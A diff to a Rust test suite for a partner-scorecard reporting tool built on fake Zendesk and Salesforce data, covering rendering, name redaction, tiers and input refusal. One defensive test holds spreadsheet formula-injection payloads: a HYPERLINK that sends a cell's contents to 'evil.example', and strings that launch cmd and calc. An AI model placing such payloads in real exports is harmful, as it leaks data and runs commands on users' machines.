@@ -11,7 +11,7 @@ use escalation_gate::report::render::{self, Format};
 use escalation_gate::report::{self, Audience, Figures, Options, Scorecard};
 use serde_json::{Map, Value, json};
 
-use crate::fakes::salesforce::{FakeSalesforce, State_};
+use crate::fakes::salesforce::{FakeArticle, FakeSalesforce, State_};
 use crate::fakes::zendesk::*;
 use crate::helpers::{self, *};
 use crate::salesforce as sf;
@@ -34,6 +34,8 @@ struct Spec {
     /// `good`, `bad` or `review`.
     verdict: Option<&'static str>,
     reviewed: Option<&'static str>,
+    /// The reason a reviewer recorded with an overturn.
+    overturn: Option<&'static str>,
     reasons: Vec<&'static str>,
     fields: Vec<&'static str>,
     article: Option<&'static str>,
@@ -75,6 +77,7 @@ fn specs() -> Vec<Spec> {
             escalated,
             verdict: None,
             reviewed: None,
+            overturn: None,
             reasons: vec![],
             fields: vec![],
             article: None,
@@ -110,7 +113,9 @@ fn specs() -> Vec<Spec> {
                 55..70 => {
                     s.verdict = Some("bad");
                     s.reasons = vec!["missing_handoff"];
-                    s.fields = if pick < 62 {
+                    s.fields = if pick < 58 {
+                        vec!["steps_to_reproduce"]
+                    } else if pick < 62 {
                         vec!["steps"]
                     } else {
                         vec!["steps", "environment"]
@@ -127,10 +132,13 @@ fn specs() -> Vec<Spec> {
                     s.reasons = vec!["kb_resolvable"];
                     s.article = Some("360002");
                     s.reviewed = Some("good");
+                    s.overturn = Some("kb_not_applicable");
                 }
                 _ => {
                     s.verdict = Some("good");
                     s.reviewed = Some("bad");
+                    s.overturn = [Some("kb_resolvable"), Some("missing_handoff"), None]
+                        [((r >> 20) % 3) as usize];
                 }
             }
         }
@@ -141,7 +149,7 @@ fn specs() -> Vec<Spec> {
                 [Some("product"), Some("support"), Some("both"), None][((r >> 16) % 4) as usize];
             if !s.tags_only && i % 4 == 2 {
                 s.comment = Some(match s.partner {
-                    Some("Acme IT Services") => "The agent was quick. Better than Northwind Support! Call me on +44 20 7946 0958 or jane.doe@customer.example. Regards, Jane Doe".to_string(),
+                    Some("Acme IT Services") => "Hi Ottilie, thanks! The agent was quick. Better than Northwind Support! Call me on +44 20 7946 0958 or jane.doe@customer.example. Regards, Jane Doe".to_string(),
                     _ => "Slow answers.".to_string(),
                 });
             }
@@ -215,9 +223,15 @@ fn expected(specs: &[Spec], partner: &str, month: Option<u32>) -> Expected {
             Some("good") => e.good += 1,
             Some("bad") => {
                 e.bad += 1;
+                // The judge's reasons, else the reason the reviewer recorded.
+                let reasons = if s.verdict == Some("bad") {
+                    s.reasons.clone()
+                } else {
+                    s.overturn.into_iter().collect()
+                };
+                e.missing_handoff += u64::from(reasons.contains(&"missing_handoff"));
+                e.kb_resolvable += u64::from(reasons.contains(&"kb_resolvable"));
                 if s.verdict == Some("bad") {
-                    e.missing_handoff += u64::from(s.reasons.contains(&"missing_handoff"));
-                    e.kb_resolvable += u64::from(s.reasons.contains(&"kb_resolvable"));
                     for f in &s.fields {
                         *e.fields.entry(f.to_string()).or_default() += 1;
                     }
@@ -266,9 +280,15 @@ fn check_figures(f: &Figures, e: &Expected, min: u64, what: &str) {
     );
     let r = &f.bad_reasons;
     assert_eq!(
-        (r.missing_handoff, r.kb_resolvable, r.late),
-        (e.missing_handoff, e.kb_resolvable, e.late),
+        (r.missing_handoff, r.kb_resolvable),
+        (e.missing_handoff, e.kb_resolvable),
         "{what}: reasons"
+    );
+    let late = serde_json::to_value(f).unwrap()["late"].clone();
+    assert_eq!(
+        late,
+        json!(e.late),
+        "{what}: late, apart from the bad reasons"
     );
     let listed = |l: &[report::Count]| -> BTreeMap<String, u64> {
         l.iter().map(|c| (c.name.clone(), c.count)).collect()
@@ -454,10 +474,8 @@ fn zendesk_ticket(s: &Spec) -> Value {
     }
     if let Some(r) = s.reviewed {
         tags.push(format!("{p}reviewed_{r}"));
-        if r == "bad" {
-            tags.push(format!("{p}overturn_kb_missed"));
-        }
     }
+    tags.extend(s.overturn.map(|o| format!("{p}overturn_{o}")));
     if s.sent {
         tags.push("csat_blind_sent".into());
     }
@@ -514,8 +532,13 @@ fn survey_vars() -> Vec<(&'static str, String)> {
 }
 
 fn zendesk_connector(zendesk: &FakeZendesk) -> Connector {
+    zendesk_connector_with(zendesk, format!("{}{}", survey_table(), CONTRACTS))
+}
+
+/// The test connector with `extra_toml` (its `[survey]` and `[report]`).
+fn zendesk_connector_with(zendesk: &FakeZendesk, extra_toml: String) -> Connector {
     let opts = helpers::Options {
-        extra_toml: format!("{}{}", survey_table(), CONTRACTS),
+        extra_toml,
         vars: survey_vars(),
         ..helpers::Options::default()
     };
@@ -644,16 +667,26 @@ async fn the_three_formats_and_the_partner_edition() {
     let zendesk = seeded_zendesk(&specs).await;
     let connector = zendesk_connector(&zendesk);
     let vendor = scorecard(&connector, None, Audience::Vendor).await;
-    // CSV: one row per partner and month, figures as in the scorecard.
+    // CSV: one row per partner and month, then the partner's period, figures as in the
+    // scorecard.
     let csv = render::render(&vendor, Format::Csv).unwrap();
     let mut rows = csv::Reader::from_reader(csv.as_bytes());
     let header = rows.headers().unwrap().clone();
-    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let col = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("no column {name}: {header:?}"))
+    };
+    // Late escalations are not among the bad reasons: they count good ones too.
+    assert!(col("late_escalations") < col("good"), "{header:?}");
+    assert!(!header.iter().any(|h| h == "late"), "{header:?}");
     let records: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
-    assert_eq!(records.len(), 9);
+    assert_eq!(records.len(), 12);
     for r in &records {
-        let month: u32 = r[col("month")][5..].parse().unwrap();
-        let e = expected(&specs, &r[col("partner")], Some(month));
+        let month = (&r[col("month")] != "period").then(|| r[col("month")][5..].parse().unwrap());
+        let e = expected(&specs, &r[col("partner")], month);
+        assert_eq!(r[col("late_escalations")].parse::<u64>().unwrap(), e.late);
         assert_eq!(r[col("cases")].parse::<u64>().unwrap(), e.cases);
         assert_eq!(r[col("good")].parse::<u64>().unwrap(), e.good);
         assert_eq!(r[col("bad")].parse::<u64>().unwrap(), e.bad);
@@ -666,7 +699,31 @@ async fn the_three_formats_and_the_partner_edition() {
             assert_eq!(&r[col("good_ratio")], "");
             assert_eq!(&r[col("against_target")], "not enough data");
         }
+        // The CSAT a tier rests on is the period's: its row carries it.
+        if month.is_none() {
+            let p = vendor
+                .partners
+                .iter()
+                .find(|p| p.partner == r[col("partner")])
+                .unwrap();
+            let support = p
+                .period
+                .surveys
+                .support_csat
+                .map(|e| format!("{:.2}", e.value));
+            assert_eq!(r[col("support_csat")], support.unwrap_or_default());
+            if p.partner == "Acme IT Services" {
+                assert_eq!(r[col("csat")], format!("{:.2}", mean(&e.csat)));
+            }
+        }
     }
+    assert_eq!(
+        records
+            .iter()
+            .filter(|r| &r[col("month")] == "period")
+            .count(),
+        3
+    );
     // HTML: each month chart's target line lies at the partner's target, on the band's edge.
     let html = render::html(&vendor);
     let band = regex::Regex::new(
@@ -721,10 +778,25 @@ async fn the_three_formats_and_the_partner_edition() {
     assert_eq!(comments.len(), about_support);
     for c in comments {
         assert!(
-            !c.contains("jane.doe") && !c.contains("7946") && !c.contains("Jane"),
+            !c.contains("jane.doe")
+                && !c.contains("7946")
+                && !c.contains("Jane")
+                && !c.contains("Ottilie"),
             "{c}"
         );
         assert!(!c.contains("Northwind"), "{c}");
+    }
+    // Partners read words, not codes.
+    let html = render::html(&acme);
+    for words in [
+        "hand-off fields missing",
+        "an existing article answers it",
+        "steps to reproduce",
+    ] {
+        assert!(html.contains(words), "{words}");
+    }
+    for code in ["missing_handoff", "kb_resolvable", "steps_to_reproduce"] {
+        assert!(!html.contains(code), "{code}");
     }
     let json: Value = serde_json::from_str(&render::render(&acme, Format::Json).unwrap()).unwrap();
     assert_eq!(
@@ -754,6 +826,13 @@ async fn the_html_report_renders_in_a_browser_with_its_charts() {
             "self-contained, no external asset"
         );
     }
+    // The bad escalations' table: each column's header aligned as its cells.
+    let bad_column = |n: usize| {
+        (
+            format!("section.partner > table:last-of-type th:nth-child({n})"),
+            format!("section.partner > table:last-of-type tr:nth-child(2) td:nth-child({n})"),
+        )
+    };
     let dir = tempfile::tempdir().unwrap();
     // Never skipped: the suite's script installs Chromium, and a missing browser fails here.
     let browser = crate::webdriver::Browser::start()
@@ -773,6 +852,15 @@ async fn the_html_report_renders_in_a_browser_with_its_charts() {
             let text = browser.text("body").await?;
             seen.push((months, point, band, text));
         }
+        let mut aligned = Vec::new();
+        for n in 1..=5 {
+            let (th, td) = bad_column(n);
+            aligned.push((
+                n,
+                browser.css(&th, "text-align").await?,
+                browser.css(&td, "text-align").await?,
+            ));
+        }
         let bars = browser.rect("svg.chart-months path.whisker").await?;
         browser
             .goto(&format!(
@@ -781,11 +869,14 @@ async fn the_html_report_renders_in_a_browser_with_its_charts() {
             ))
             .await?;
         let partners = browser.rect("#chart-partners rect.bar").await?;
-        Ok::<_, String>((seen, bars, partners))
+        Ok::<_, String>((seen, bars, partners, aligned))
     };
     let result = run.await;
     browser.quit().await;
-    let (seen, whisker, partners) = result.expect("the browser renders the reports");
+    let (seen, whisker, partners, aligned) = result.expect("the browser renders the reports");
+    for (n, th, td) in &aligned {
+        assert_eq!(th, td, "column {n} of the bad escalations");
+    }
     for (months, point, band, _) in &seen {
         assert!(months["width"].as_f64().unwrap() > 300.0, "{months}");
         assert!(point["width"].as_f64().unwrap() > 0.0, "{point}");
@@ -861,6 +952,7 @@ fn sf_case(s: &Spec) -> Map<String, Value> {
         "Escalation_Quality_Reason__c": if reason.is_empty() { Value::Null } else { json!(reason.join(", ")) },
         "Escalation_Quality_Detail__c": if detail.is_empty() { Value::Null } else { json!(detail.join("; ")) },
         "Escalation_Reviewed_Quality__c": s.reviewed.map(cap),
+        "Escalation_Overturn_Reason__c": s.overturn,
         "Blind_Survey_Status__c": status,
         // Number fields read back as decimals.
         "Blind_CSAT__c": if answered { json!(f64::from(s.csat.unwrap())) } else { Value::Null },
@@ -887,6 +979,17 @@ async fn salesforce_scorecard_figure_by_figure_through_next_records_url() {
         state.cases.insert(c["Id"].as_str().unwrap().to_string(), c);
     }
     state.query_batch = 200;
+    state.articles.push(FakeArticle {
+        id: "360001".into(),
+        number: "000001001".into(),
+        title: "Reset a payroll run".into(),
+        url_name: "reset-a-payroll-run".into(),
+        summary: "How a payroll run is reset.".into(),
+        answer_html: "<p>How it is done.</p>".into(),
+        language: "en_US".into(),
+        status: "Online".into(),
+        last_published: "2025-06-01T00:00:00.000+0000".into(),
+    });
     // The first query meets the org's API request limit once.
     state.fails.push(crate::fakes::salesforce::Fail {
         method: "GET",
@@ -899,7 +1002,7 @@ async fn salesforce_scorecard_figure_by_figure_through_next_records_url() {
     let opts = helpers::Options {
         fields_toml: "Blind_CSAT__c = \"csat_score\"\nBlind_CES__c = \"ces_score\"\nBlind_CSAT_About__c = \"csat_about\"\nBlind_Comment__c = \"csat_comment\"\nContact_Email__c = \"end_customer_email\"\n".into(),
         extra_toml: format!(
-            "{}{CONTRACTS}[helpdesk.verdict_fields]\ndetail = \"Escalation_Quality_Detail__c\"\n",
+            "{}{CONTRACTS}[helpdesk.verdict_fields]\ndetail = \"Escalation_Quality_Detail__c\"\noverturn = \"Escalation_Overturn_Reason__c\"\n",
             survey_table()
         ),
         vars: survey_vars(),
@@ -908,6 +1011,14 @@ async fn salesforce_scorecard_figure_by_figure_through_next_records_url() {
     let connector = build_connector(&fake, "acme-sf", &opts);
     let card = scorecard(&connector, None, Audience::Vendor).await;
     check_scorecard(&card, &specs);
+    // Knowledge shows the article the Cases name; the one it does not have stays an id.
+    assert_eq!(
+        card.articles.keys().collect::<Vec<_>>(),
+        ["360001"],
+        "{:?}",
+        card.articles
+    );
+    assert_eq!(card.articles["360001"].title, "Reset a payroll run");
     // 330 Cases in the period, 200 a batch: the first page, a refused try, and one more.
     assert_eq!(fake.count("GET", "/query"), 3);
     assert_eq!(fake.count("GET", "/query/01g"), 1);
@@ -981,5 +1092,350 @@ async fn the_report_command_writes_each_format_and_refuses_bad_input() {
         assert!(!out.status.success());
         let err = String::from_utf8_lossy(&out.stderr);
         assert!(err.contains(says), "{err}");
+    }
+}
+
+// ----- what a scorecard says, and refuses -----------------------------------------------------
+
+#[test]
+fn names_after_greetings_salutations_and_sign_offs_are_removed() {
+    let none = report::partner_patterns(&BTreeSet::new());
+    for (comment, name) in [
+        ("Hi Ottilie, thanks! All sorted.", "Ottilie"),
+        ("Hello, Marc-André: the fix worked.", "Marc-André"),
+        ("Dear Mr. O'Brien, it works now.", "O'Brien"),
+        ("Dear Dr Anna Smith, thank you.", "Smith"),
+        ("Hey Sam! Quick and kind.", "Sam"),
+        ("Good morning Priya, the export works.", "Priya"),
+        ("Thanks Jonas for the quick fix", "Jonas"),
+        ("Thank you, Mei Ling. Great help", "Ling"),
+        ("Great help.\nRegards,\nJane Doe", "Doe"),
+        ("Solved fast. Best Regards, Karl Heinz", "Karl"),
+        ("Cheers Tom", "Tom"),
+        ("Hallo Jörg, alles gut.", "Jörg"),
+        ("Sehr geehrte Frau Müller, danke.", "Müller"),
+        ("Bonjour Amélie, merci !", "Amélie"),
+        ("Merci, Chloé", "Chloé"),
+        ("Hola Lucía, gracias.", "Lucía"),
+        ("Hej Åsa! Tack.", "Åsa"),
+        ("Ciao Giulia, grazie mille.", "Giulia"),
+    ] {
+        let c = report::redact(comment, &none);
+        assert!(
+            !c.contains(name) && c.contains("[name]"),
+            "{comment:?} → {c:?}"
+        );
+    }
+    // Capitalised words after a greeting that are not names stay.
+    for comment in [
+        "Hi There, all good.",
+        "Thanks Again for the help",
+        "Hello Team, quick answer.",
+    ] {
+        assert_eq!(report::redact(comment, &none), comment);
+    }
+}
+
+/// The vendor scorecard of the generated cases with [`CONTRACTS`] but `min_escalations`.
+async fn scorecard_with_min_escalations(min: u64) -> Scorecard {
+    let zendesk = seeded_zendesk(&specs()).await;
+    let contracts = CONTRACTS.replace("min_escalations = 20", &format!("min_escalations = {min}"));
+    let connector = zendesk_connector_with(&zendesk, format!("{}{contracts}", survey_table()));
+    scorecard(&connector, None, Audience::Vendor).await
+}
+
+#[tokio::test]
+async fn a_partner_below_the_minimum_sample_has_not_enough_data_for_a_tier() {
+    // No partner has 500 judged escalations in the quarter.
+    let card = scorecard_with_min_escalations(500).await;
+    let json = serde_json::to_value(&card).unwrap();
+    for p in json["partners"].as_array().unwrap() {
+        let t = &p["tier"];
+        assert_eq!(t["reached"], Value::Null, "{t}");
+        assert_eq!(t["uncertain"], json!(false), "{t}");
+        assert_eq!(t["not_enough_data"], json!(true), "{t}");
+    }
+    let html = render::html(&card);
+    assert!(!html.contains("(uncertain)"));
+    // In the overview and in each partner's section.
+    assert_eq!(
+        html.matches("none <span class=\"nodata\">(not enough data)</span>")
+            .count(),
+        6
+    );
+    let csv = render::csv(&card).unwrap();
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let header = rows.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for r in rows.records().map(Result::unwrap) {
+        assert_eq!(
+            (&r[col("tier_uncertain")], &r[col("tier_not_enough_data")]),
+            ("false", "true")
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_tier_note_names_only_figures_that_could_change_the_tier() {
+    let specs = specs();
+    let zendesk = seeded_zendesk(&specs).await;
+    let card = scorecard(&zendesk_connector(&zendesk), None, Audience::Vendor).await;
+    let acme = |card: &Scorecard| {
+        card.partners
+            .iter()
+            .find(|p| p.partner == "Acme IT Services")
+            .unwrap()
+            .clone()
+    };
+    let csat = acme(&card).period.surveys.support_csat.unwrap().value;
+    // Gold asks for Acme's own support CSAT (its interval straddles it) and a ratio no
+    // interval reaches: the ratio rules Gold out, whatever the CSAT.
+    let contracts = format!(
+        "[report]\ntarget = 0.80\nmin_escalations = 20\nmin_answers = 10\n\n\
+         [[report.tiers]]\nname = \"Gold\"\nlabel = \"discount +5 %\"\nmin_good_ratio = 0.99\nmin_support_csat = {csat}\n\n\
+         [[report.tiers]]\nname = \"Silver\"\nlabel = \"bonus 1 %\"\nmin_good_ratio = 0.10\n"
+    );
+    let connector = zendesk_connector_with(&zendesk, format!("{}{contracts}", survey_table()));
+    let acme = acme(&scorecard(&connector, None, Audience::Vendor).await);
+    let t = acme.tier.unwrap();
+    assert_eq!(
+        (t.reached.as_deref(), t.next.as_deref()),
+        (Some("Silver"), Some("Gold"))
+    );
+    assert!(t.notes.is_empty() && !t.uncertain, "{t:?}");
+    assert!(
+        t.missed_by
+            .iter()
+            .any(|m| m.contains("good-escalation ratio"))
+    );
+}
+
+#[tokio::test]
+async fn an_edition_for_no_partner_or_of_an_empty_period_is_refused() {
+    let specs = specs();
+    let zendesk = seeded_zendesk(&specs).await;
+    let connector = zendesk_connector(&zendesk);
+    let options = Options {
+        period: period(),
+        partner: Some("Acme".into()),
+        audience: Audience::Partner,
+    };
+    let err = connector
+        .scorecard(&options, &indicatif::ProgressBar::hidden())
+        .await
+        .expect_err("a partner that does not exist")
+        .to_string();
+    assert!(
+        err.contains("known partners: Acme IT Services, Contoso Partners, Northwind Support"),
+        "{err}"
+    );
+    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
+    let out_file = dir.path().join("edition.html");
+    for (extra, (from, to), says) in [
+        (
+            &["--audience", "partner", "--partner", "Acme"][..],
+            ("2026-01-01", "2026-03-31"),
+            "no partner `Acme` in the period's tickets or in `[report.partners]` (names are matched exactly, as the connector writes them); known partners: Acme IT Services, Contoso Partners, Northwind Support",
+        ),
+        (
+            &[][..],
+            ("2027-01-01", "2027-01-31"),
+            "nothing to report: connector `acme` has no ticket created from 2027-01-01 to 2027-01-31 (UTC); no scorecard written",
+        ),
+        (
+            // A partner of the contracts, without a case in the period.
+            &["--audience", "partner", "--partner", "Northwind Support"][..],
+            ("2027-01-01", "2027-01-31"),
+            "nothing to report: no case of partner `Northwind Support` from 2027-01-01 to 2027-01-31 (UTC)",
+        ),
+    ] {
+        let mut args = vec!["--connector", "acme", "--from", from, "--to", to];
+        args.extend(extra);
+        args.extend(["--out", out_file.to_str().unwrap()]);
+        let out = run_command("report", &args, dir.path(), &zendesk).await;
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success() && err.contains(says), "{err}");
+        assert!(!out_file.exists(), "nothing written");
+    }
+}
+
+#[tokio::test]
+async fn without_the_organizations_sideload_the_partners_are_read_with_show_many() {
+    let specs = specs();
+    let zendesk = seeded_zendesk(&specs).await;
+    zendesk.set_export_sideloads(false);
+    let card = scorecard(&zendesk_connector(&zendesk), None, Audience::Vendor).await;
+    check_scorecard(&card, &specs);
+    let shown: Vec<String> = zendesk
+        .requests()
+        .into_iter()
+        .filter(|r| r.path.starts_with("/api/v2/organizations/show_many"))
+        .map(|r| r.query.unwrap_or_default())
+        .collect();
+    // The first page names all three partners: each organization is asked for once.
+    assert_eq!(shown, ["ids=501%2C502%2C503"]);
+    // The command says so on standard error.
+    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
+    let args = [&FIRST_QUARTER[..], &["--format", "json"]].concat();
+    let out = run_command("report", &args, dir.path(), &zendesk).await;
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        out.status.success()
+            && err.contains("Export Search Results did not sideload the tickets' organizations; reading them with Show Many Organizations"),
+        "{err}"
+    );
+    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json["without_partner"], json!(card.without_partner));
+}
+
+#[tokio::test]
+async fn articles_are_named_by_their_title_and_link() {
+    let specs = specs();
+    let zendesk = seeded_zendesk(&specs).await;
+    for (id, title) in [
+        (360001, "Reset a payroll run"),
+        (360002, "Credit notes with reverse charge VAT"),
+    ] {
+        zendesk.put_article(article(
+            id,
+            title,
+            "How it is done.",
+            "2025-06-01T00:00:00Z",
+        ));
+    }
+    let connector = zendesk_connector(&zendesk);
+    let vendor = scorecard(&connector, None, Audience::Vendor).await;
+    let json = serde_json::to_value(&vendor).unwrap();
+    let reset = &json["articles"]["360001"];
+    assert_eq!(reset["title"], "Reset a payroll run", "{json}");
+    let url = reset["url"].as_str().unwrap();
+    assert!(url.contains("/articles/360001"), "{url}");
+    let html = render::html(&vendor);
+    let link = format!("<a href=\"{url}\">Reset a payroll run</a>");
+    // The knowledge view, each partner's articles and the enablement lists.
+    assert!(html.matches(&link).count() >= 3, "{html}");
+    let acme =
+        render::html(&scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await);
+    let table = &acme[acme.find("<h3>Bad escalations</h3>").unwrap()..];
+    assert!(table.contains(&link) && table.contains("Credit notes with reverse charge VAT"));
+    // Each article once a scorecard.
+    assert_eq!(zendesk.count("GET /api/v2/help_center/articles/360001"), 2);
+    // The command with an embedded knowledge base reads its article folder (no index built).
+    let articles = tempfile::tempdir().unwrap();
+    std::fs::write(
+        articles.path().join("reset.md"),
+        "---\nid: 360001\ntitle: Reset a payroll run\nurl: https://help.ledgerly.example/articles/360001\nlocale: en-us\npublished: 2025-06-01\n---\nHow it is done.\n",
+    )
+    .unwrap();
+    let dir = connectors_dir(&connector_toml(
+        API_TOKEN_AUTH,
+        "local",
+        &format!("path = \"{}\"\n{CONTRACTS}", articles.path().display()),
+    ));
+    let args = [&FIRST_QUARTER[..], &["--format", "json"]].concat();
+    let out = run_command("report", &args, dir.path(), &zendesk).await;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        json["articles"],
+        json!({"360001": {"id": "360001", "title": "Reset a payroll run",
+                          "url": "https://help.ledgerly.example/articles/360001"}})
+    );
+}
+
+#[tokio::test]
+async fn the_html_states_its_days_and_name_and_a_small_partners_period() {
+    // Every month has fewer than 40 judged escalations of a partner; the quarter has more.
+    let card = scorecard_with_min_escalations(40).await;
+    for p in &card.partners {
+        assert!(p.months.iter().all(|m| m.figures.good_ratio.is_none()));
+        assert!(p.period.good_ratio.is_some());
+    }
+    let html = render::html(&card);
+    // The survey's company names the vendor, not the connector id.
+    assert!(
+        html.contains("<title>Partner scorecard: Ledgerly</title>"),
+        "{}",
+        &html[..400]
+    );
+    assert!(html.contains("from 2026-01-01 to 2026-03-31 (UTC, both days included)"));
+    assert!(!html.contains("2026-04-01"));
+    assert_eq!(
+        html.matches("The months are not shown: each has fewer than 40 judged escalations")
+            .count(),
+        3
+    );
+    assert_eq!(html.matches("<circle class=\"point\"").count(), 3);
+}
+
+#[tokio::test]
+async fn without_a_comment_field_the_scorecard_says_comments_are_not_read() {
+    let specs = specs();
+    let zendesk = seeded_zendesk(&specs).await;
+    let survey = survey_toml(
+        "kind = \"webhook\"\nurl = \"http://127.0.0.1:9/requests\"\nsecret = \"${SURVEY_WHSEC}\"",
+        TICKET_SINK,
+    );
+    let connector = zendesk_connector_with(&zendesk, format!("{survey}{CONTRACTS}"));
+    let vendor = render::html(&scorecard(&connector, None, Audience::Vendor).await);
+    assert!(vendor.contains("the survey maps no <code>comment_field</code>"));
+    let acme =
+        render::html(&scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await);
+    assert!(!acme.contains("What customers said about support"));
+    assert!(!acme.contains("No comments in this period"));
+}
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_are_made_inert() {
+    let zendesk = zendesk().await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+SUM(1+1)|cmd",
+        "-2+3+cmd|calc",
+        "@SUM(A1:A2)",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let org = 700 + i as u64;
+        zendesk.put_organization(json!({"id": org, "name": name}));
+        zendesk.put_ticket(json!({
+            "id": 20_000 + i as u64,
+            "subject": "Totals look wrong",
+            "description": "generated",
+            "status": "solved",
+            "tags": ["escalation_good"],
+            "requester_id": REQUESTER_ID,
+            "organization_id": org,
+            "created_at": "2026-02-02T10:00:00Z",
+            "updated_at": "2026-02-03T10:00:00Z",
+        }));
+    }
+    let connector = zendesk_connector(&zendesk);
+    for (partner, audience) in [
+        (None, Audience::Vendor),
+        (Some(names[1]), Audience::Partner),
+    ] {
+        let card = scorecard(&connector, partner, audience).await;
+        let csv = render::csv(&card).unwrap();
+        let mut rows = csv::Reader::from_reader(csv.as_bytes());
+        let mut partners = BTreeSet::new();
+        for r in rows.records().map(Result::unwrap) {
+            for cell in &r {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+            partners.insert(r[0].to_string());
+        }
+        let want: BTreeSet<String> = names
+            .iter()
+            .filter(|n| partner.is_none_or(|p| p == **n))
+            .map(|n| format!("'{n}"))
+            .collect();
+        assert_eq!(partners, want);
     }
 }
